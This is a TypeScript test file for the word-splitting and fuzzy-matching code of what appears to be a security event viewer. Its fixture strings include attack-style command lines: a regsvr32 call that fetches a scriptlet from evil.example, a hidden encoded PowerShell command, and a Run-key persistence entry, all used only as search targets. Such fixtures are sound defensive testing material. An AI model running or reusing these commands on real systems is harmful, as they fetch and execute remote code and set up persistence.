import Fuse from 'fuse.js';
import {describe, expect, it} from 'vitest';
import {
	candidateWords,
	compileTerm,
	FUSE_OPTIONS,
	isWordSeparator,
	termMatches,
} from '../../../source/core/view/text-match.js';
import {makeEvent} from './make-event.js';

const SEPARATOR_CLASS = /[\s"'\\/=,;()[\]<>|]/;

const texts = [
	'"c:\\windows\\system32\\regsvr32.exe" /s /n /u /i:http://evil.example/a.sct scrobj.dll',
	'powershell.exe -nop -w hidden -enc sqbfafgaiaaoae4azqb3ac0atwbiagoazqbjahqa',
	'hklm\\software\\microsoft\\windows\\currentversion\\run=updater;c:\\users\\public\\u.exe',
	'chrome.exe --type=renderer --lang=en-us (outlook.office365.com) <login.microsoftonline.com>|x',
	'regsrv32\u00a0regsvr\u3000r3gsvr32\u2028rgsvr32\ufeffregsvr32x\u202eexe',
	'',
	'a',
];
const terms = [
	'regsvr32',
	'regsrv32',
	'powershel',
	'outlok',
	'chrme',
	'scrobj',
	'updater',
	'evil.exmple',
	'aaaa',
	'hkml',
];

describe('candidateWords', () => {
	it('splits words at the same characters as the documented separator class', () => {
		for (let c = 0; c < 0x10000; c++) {
			if (isWordSeparator(c) !== SEPARATOR_CLASS.test(String.fromCharCode(c)))
				throw new Error(`separator mismatch at U+${c.toString(16)}`);
		}
		const out: string[] = [];
		candidateWords(compileTerm({text: 'x', exact: false}), 'c:\\x\\regsvr32.exe /s a=b,c;d(e)[f]<g>|h "q" \'r\'', out);
		expect(out).toEqual(['c:', 'x', 'regsvr32.exe', 's', 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'q', 'r']);
	});

	it('keeps every word fuse would match and drops only words that cannot match', () => {
		for (const t of terms) {
			const term = compileTerm({text: t, exact: false});
			for (const text of texts) {
				const all = text.split(SEPARATOR_CLASS).filter(w => w.length >= term.minWordLength);
				const kept: string[] = [];
				candidateWords(term, text, kept);
				for (const w of kept) expect(all).toContain(w);
				for (const w of all) if (new Fuse([w], FUSE_OPTIONS).search(t).length > 0) expect(kept).toContain(w);
			}
		}
	});

	it('matches an approximate term inside one word of an event, not across words', () => {
		const ev = makeEvent(1, {summary: 'C:\\Windows\\System32\\regsvr32.exe /s scrobj.dll'});
		expect(termMatches(compileTerm({text: 'regsrv32', exact: false}), ev)).toBe(true);
		expect(termMatches(compileTerm({text: 'scrbj', exact: false}), ev)).toBe(true);
		expect(termMatches(compileTerm({text: 'exe/s', exact: false}), ev)).toBe(false);
		expect(termMatches(compileTerm({text: 'zzzqqq', exact: false}), ev)).toBe(false);
	});
});
